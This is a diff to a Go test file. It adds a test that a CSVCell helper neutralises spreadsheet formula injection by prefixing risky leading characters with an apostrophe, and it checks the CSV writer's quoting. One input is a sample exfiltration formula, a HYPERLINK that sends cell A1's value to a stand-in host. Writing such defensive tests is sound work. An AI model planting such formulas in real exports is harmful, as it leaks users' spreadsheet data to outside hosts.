@@ -123,3 +123,35 @@ func TestReadCSVRefusesOversizedFiles(t *testing.T) {
 		t.Fatalf("a CSV over the limit: %v", err)
 	}
 }
+
+func TestCSVCellNeutralisesFormulas(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x/?"&A1,"click")`: `'=HYPERLINK("http://x/?"&A1,"click")`,
+		"+SUM(1+1)":                           "'+SUM(1+1)",
+		"-2+3":                                "'-2+3",
+		"@A1":                                 "'@A1",
+		"\tx":                                 "'\tx",
+		"\rx":                                 "'\rx",
+		"-":                                   "'-",
+		"-.5":                                 "'-.5",
+		"+5":                                  "'+5",
+		"-12":                                 "-12",
+		"-0.5":                                "-0.5",
+		"30.200000":                           "30.200000",
+		"土鸡蛋 =1":                              "土鸡蛋 =1",
+		"":                                    "",
+		"R01":                                 "R01",
+	} {
+		if got := CSVCell(in); got != want {
+			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+	var b strings.Builder
+	w := NewCSVWriter(&b)
+	if err := w.Write([]string{"=1+1", "-3", `say "hi"`}); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Flush(); err != nil || b.String() != "'=1+1,-3,\"say \"\"hi\"\"\"\n" {
+		t.Fatalf("wrote %q (%v)", b.String(), err)
+	}
+}
